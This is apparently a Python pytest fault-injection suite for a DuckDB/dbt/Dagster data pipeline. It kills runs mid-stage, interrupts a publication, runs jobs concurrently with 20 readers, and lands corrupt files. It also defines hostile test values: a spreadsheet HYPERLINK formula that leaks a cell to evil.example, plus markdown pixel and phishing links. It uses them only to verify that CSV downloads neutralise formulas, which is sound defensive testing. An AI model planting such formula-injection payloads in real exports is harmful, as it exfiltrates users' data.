"""Fault injection: what a hostile operator did to the pipeline, done again on every CI run.

Starting from a copy of the scoring fixture's folder after its run (a published warehouse,
its build file and Dagster home), `qm run` is SIGKILLed during the ingest, during the dbt
build and during the validation of the marts; a publication is cut off half-way (its
staging copy left behind); then two runs start at once while 20 readers query the published
file, with every kind of bad file and hostile values landed. After each fault the published
warehouse is unchanged and readable, no child process of the killed run is left, and the
next run is not blocked. The session ends with a table of the faults survived.
"""

from __future__ import annotations

import csv
import hashlib
import io
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import duckdb
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from dashboards.charts import csv_bytes
from orchestration.publish import read_published
from tests.conftest import REPO_ROOT, PipelineRun
from tests.faults import survived
from tests.processes import command_line, descendants, is_running

pytestmark = pytest.mark.slow


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def published_counts(path: Path) -> tuple[int, int]:
    """Read as the dashboards read (read_published: connected again when a publication
    replaced the file during the connection)."""
    return read_published(
        path,
        lambda connection: connection.execute(
            "select (select count(*) from raw.file_ledger),"
            " (select count(*) from marts.fct_interactions)"
        ).fetchall()[0],
    )


@pytest.fixture(scope="module")
def site(scoring_run, tmp_path_factory) -> PipelineRun:
    """A copy of the scoring fixture's folder after its run."""
    assert scoring_run.returncode == 0, scoring_run.output[-3000:]
    workdir = tmp_path_factory.mktemp("faults")
    shutil.copytree(scoring_run.landing.parent, workdir, dirs_exist_ok=True)
    published = workdir / "warehouse" / "qm.duckdb"
    return PipelineRun(
        workdir / "landing", published, published.with_name("qm.build.duckdb"), 0, ""
    )


def run_command(site: PipelineRun) -> tuple[list[str], dict[str, str]]:
    """`qm run` on the site: its command line and environment."""
    workdir = site.landing.parent
    env = {**os.environ, "GX_ANALYTICS_ENABLED": "false", "QM_HOME": str(workdir),
           "DAGSTER_HOME": str(workdir / "dagster_home"),
           "QM_VALIDATION_DIR": str(workdir / "validation")}  # fmt: skip
    env.pop("QM_BUILD_WAREHOUSE", None)
    command = [sys.executable, "-m", "orchestration.cli", "run", "--landing", str(site.landing),
               "--warehouse", str(site.published)]  # fmt: skip
    return command, env


def start_run(site: PipelineRun) -> subprocess.Popen:
    """`qm run` started, its plain progress lines readable from stdout."""
    command, env = run_command(site)
    return subprocess.Popen(
        command, cwd=REPO_ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        text=True,
    )  # fmt: skip


def kill_when(
    process: subprocess.Popen, reached, timeout: float = 300
) -> tuple[list[str], dict[int, list[str]]]:
    """SIGKILL `qm run` at the first output line for which `reached(lines)` holds; return
    its lines and the processes it had started then, with their command lines (read before
    the kill: a killed child's is gone)."""
    lines: list[str] = []
    deadline = time.monotonic() + timeout
    for line in process.stdout:
        lines.append(line.rstrip("\n"))
        if reached(lines):
            children = {pid: command_line(pid) for pid in descendants(process.pid)}
            process.send_signal(signal.SIGKILL)
            process.wait(timeout=30)
            process.stdout.close()
            return lines, children
        assert time.monotonic() < deadline, "\n".join(lines[-20:])
    raise AssertionError("the run ended before the stage was reached:\n" + "\n".join(lines))


def assert_nothing_left(site: PipelineRun, children: dict, published_before: str) -> None:
    deadline = time.monotonic() + 15
    while any(is_running(pid) for pid in children) and time.monotonic() < deadline:
        time.sleep(0.2)
    assert not [pid for pid in children if is_running(pid)], "a child of the killed run lives on"
    assert digest(site.published) == published_before
    assert published_counts(site.published)[1] > 0


def starts_with(step: str):
    return lambda lines: lines[-1].startswith(step)


def after_dbt_model(lines: list[str]) -> bool:
    return lines[-1].startswith("dbt") and lines[-1].rstrip().endswith(": ok")


def validating_marts(lines: list[str]) -> bool:
    dbt_done = any(" models and tests done" in line for line in lines)
    return dbt_done and lines[-1].startswith("validate")


@pytest.mark.parametrize(
    ("stage", "reached"),
    [("ingest", starts_with("ingest")), ("dbt build", after_dbt_model),
     ("validation", validating_marts)],
    ids=["ingest", "dbt", "validation"],
)  # fmt: skip
def test_a_run_killed_during_a_stage_leaves_the_warehouse_and_no_process_behind(
    site, stage, reached
):
    probe = f"SIGKILL during {stage}"
    survived.start(probe, "published file unchanged and readable; every child process gone")
    before = digest(site.published)
    lines, children = kill_when(start_run(site), reached)
    if stage == "dbt build":
        running = list(children.values())
        assert any(
            "dbt" in " ".join(arguments) and "build" in arguments for arguments in running
        ), f"dbt was not running when the run was killed: {running}"
    assert_nothing_left(site, children, before)
    survived.passed(probe)


def staging_copy(site: PipelineRun) -> Path:
    """Where orchestration.publish writes the copy it then renames into place."""
    return site.published.with_name(f".{site.published.name}.publishing")


def test_a_publication_cut_off_half_way_blocks_nothing(site):
    probe = "publication cut off half-way"
    survived.start(probe, "a half-written staging copy beside the published file is replaced")
    staging_copy(site).write_bytes(site.published.read_bytes()[:4096])
    # The next run (the last test) must publish over it; it says so there.


HOSTILE_TEAM = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
HOSTILE_DESCRIPTION = "![x](http://evil.example/pixel.png) [click](http://evil.example/phish)"


def land_bad_files(landing: Path) -> dict[str, str]:
    """Every kind of bad file, and hostile values in good ones; file → what it is."""
    (landing / "interactions" / "random_bytes.parquet").write_bytes(os.urandom(4096))
    (landing / "forms" / "not_utf8.yml").write_bytes(
        "form_id: F9\nname: Qualit\xe9\n".encode("latin-1")
    )
    (landing / "interactions" / "export.tsv").write_text("interaction_id\tchannel\n")
    (landing / "interactions" / "zero_bytes.csv").write_bytes(b"")
    header = (landing / "agents" / "agents.csv").read_text().splitlines()[0]
    (landing / "agents" / "header_only.csv").write_text(header + "\n")
    changes = landing / "process_changes"
    changes.mkdir(exist_ok=True)
    with (changes / "hostile.csv").open("w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["change_id", "effective_at", "scope", "description"])
        writer.writerow(["=2+3", "2026-06-03T00:00:00Z", "all", HOSTILE_DESCRIPTION])
    return {
        "interactions/random_bytes.parquet": "invalid_file",
        "forms/not_utf8.yml": "invalid_file",
        "interactions/export.tsv": "ignored",
        "interactions/zero_bytes.csv": "empty",
        "agents/header_only.csv": "empty",
    }


def project_target_folders() -> set[Path]:
    """dagster-dbt's per-run target folders, had a run made one in the dbt project."""
    return set((REPO_ROOT / "dbt_project").rglob("warehouse_models-*"))


def data_health_page(site: PipelineRun, monkeypatch) -> AppTest:
    """The Data health page on the site's published file and run log."""
    monkeypatch.setenv("QM_WAREHOUSE", str(site.published))
    page = REPO_ROOT / "dashboards" / "views" / "data_health.py"
    app = AppTest.from_file(str(page), default_timeout=60).run()
    assert not app.exception
    return app


def test_two_runs_at_once_with_readers_bad_files_and_hostile_values(site, monkeypatch):
    probes = {
        "two runs at once": "the second is refused at once, naming the run in progress",
        "20 concurrent readers during a run": "every read-only query succeeds",
        "bad files landed": "run publishes; each file named in the summary",
        "hostile values": "stored as text; CSV downloads neutralise formulas",
    }
    for probe, checked in probes.items():
        survived.start(probe, checked)
    bad = land_bad_files(site.landing)
    target_folders_before = project_target_folders()
    errors: list[Exception] = []
    reads = [0] * 20
    stop = threading.Event()

    def read(index: int) -> None:
        while not stop.is_set():
            try:
                published_counts(site.published)
                reads[index] += 1
            except Exception as error:  # noqa: BLE001 - any failure is what we look for
                errors.append(error)
            # readers, not a load test: 20 of them at 4 reads a second each leave the run its
            # share of the two cores (at 20 a second each, opening the file 400 times a
            # second, the run took minutes longer)
            time.sleep(0.25)

    readers = [threading.Thread(target=read, args=(index,)) for index in range(20)]
    for reader in readers:
        reader.start()
    try:
        first = start_run(site)
        lines = [first.stdout.readline()]
        while not lines[-1].startswith("ingest"):
            lines.append(first.stdout.readline())
            assert lines[-1], "\n".join(lines)
        command, env = run_command(site)
        second = subprocess.run(
            command, cwd=REPO_ROOT, env=env, capture_output=True, text=True, timeout=120
        )
        output, _ = first.communicate(timeout=600)
    finally:
        stop.set()
        for reader in readers:
            reader.join()
    output = "".join(lines) + output
    assert first.returncode == 0, output[-4000:]
    assert not staging_copy(site).exists()
    # The validation probe's killed run left its lock file naming it: taken over, said.
    assert "took over the lock" in output and "which is no longer running" in output
    assert site.build.with_name(site.build.name + ".lock").read_text() == ""
    # dbt's artifacts: one fixed folder for builds and one for the manifest, reused by every
    # run (killed ones included); no per-run `warehouse_models-<uuid>` folder anywhere.
    dbt_data = site.landing.parent / "data" / "dbt"
    assert {path.name for path in dbt_data.iterdir()} == {"build", "target"}
    assert project_target_folders() == target_folders_before
    survived.passed("publication cut off half-way")
    assert second.returncode != 0
    assert "is in progress" in second.stdout + second.stderr
    survived.passed("two runs at once")

    assert errors == [] and min(reads) > 0
    survived.passed("20 concurrent readers during a run")

    for file, kind in bad.items():
        assert any(file in line and kind in line for line in output.splitlines()), (file, kind)
    with duckdb.connect(str(site.published), read_only=True) as connection:
        reasons = dict(
            connection.execute(
                "select source_file, reason from raw.quarantine where reason = 'invalid_file'"
            ).fetchall()
        )
        [(change_id, description)] = connection.execute(
            "select change_id, description from raw.process_changes where change_id = '=2+3'"
        ).fetchall()
    assert reasons == {"interactions/random_bytes.parquet": "invalid_file",
                       "forms/not_utf8.yml": "invalid_file"}  # fmt: skip
    health = data_health_page(site, monkeypatch)
    [listed] = [table.value for table in health.dataframe if "file" in table.value.columns]
    for file in bad:
        assert listed["file"].str.startswith(file + ":").sum() == 1, file
    survived.passed("bad files landed")

    assert description == HOSTILE_DESCRIPTION
    downloaded = csv_bytes(pd.DataFrame({"change_id": [change_id], "team": [HOSTILE_TEAM]}))
    cells = list(csv.reader(io.StringIO(downloaded.decode())))[1]
    assert cells == ["'=2+3", "'" + HOSTILE_TEAM]
    survived.passed("hostile values")
